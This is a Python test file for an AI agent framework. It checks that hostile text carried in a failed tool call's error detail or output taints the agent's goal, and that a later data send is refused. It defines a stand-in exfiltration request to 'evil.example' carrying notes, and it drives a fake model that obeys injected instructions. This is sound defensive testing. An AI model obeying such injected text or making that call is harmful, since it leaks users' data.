"""T145: a stranger's text that comes as the failure of a call taints a goal as its result would.

The real core behind the inbox of a real goal job, and a model on a socket that obeys what the failure says.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from starloom_protocol.vocabulary import Code, EffectSeen, Outcome
from tests.core.plan.goals.pursued import Pursued, call
from tests.core.plan.goals.test_steps import WIDE
from tests.guard.test_hostile_goals import ENVELOPE, SENDS, allow
from tests.jobs.kinds.test_looking import HEADS
from tests.jobs.kinds.test_pursuing import hub_of, step, turn
from tests.jobs.test_modelling import models
from tests.models.modes import HOSTILE
from tests.models.server import fake_model

pytestmark = pytest.mark.short

FAILED: dict[str, dict[str, Any]] = {
    "words of a server": {"code": Code.TOOL_FAILED, "detail": HOSTILE, "outcome": Outcome.ERROR},
    "output of a program": {"code": Code.TIMED_OUT, "outcome": Outcome.TIMEOUT, "tail": HOSTILE},
}
EVIL = call("http.request", url="https://evil.example/?q=notes")
PAGE = call("http.request", url="https://intranet.example/a")


@pytest.mark.parametrize("how", FAILED)
async def test_t145_after_a_failed_page_a_send_is_refused_without_a_question(how: str) -> None:
    hub, constellation = hub_of(**ENVELOPE)
    allow(hub)
    page = {"device": "one", "tool": "http.request", "args": {"url": "https://intranet.example/"}}
    async with fake_model(step(page), step(SENDS)) as fake:
        made = models(fake, hub, **HEADS)
        await turn(hub, made)
        for work in hub.driver.take():
            hub.driver.result(work, effect=EffectSeen.MAYBE, **FAILED[how])
        await turn(hub, made)
        assert json.dumps(HOSTILE)[1:40] in json.dumps(fake.asked[1]["messages"]), "the failure was not shown"
    assert not hub.driver.take()
    assert not constellation.open_questions
    assert "a stranger may have written" in constellation.jobs["goal-1"].goal.turns[-1].note


@pytest.mark.parametrize("outcome", [Outcome.REFUSED, Outcome.NEVER_STARTED])
def test_t145_a_call_that_never_ran_has_read_nobody(outcome: Outcome) -> None:
    one = Pursued(goal=WIDE)
    one.reply("allow")
    one.step(PAGE)
    for work in one.take():
        one.result(work, outcome=outcome, code=Code.POLICY_REFUSED, detail="not granted", effect=EffectSeen.NONE)
    one.step(EVIL)
    assert one.made.open_questions, "a person is asked, as before any call"
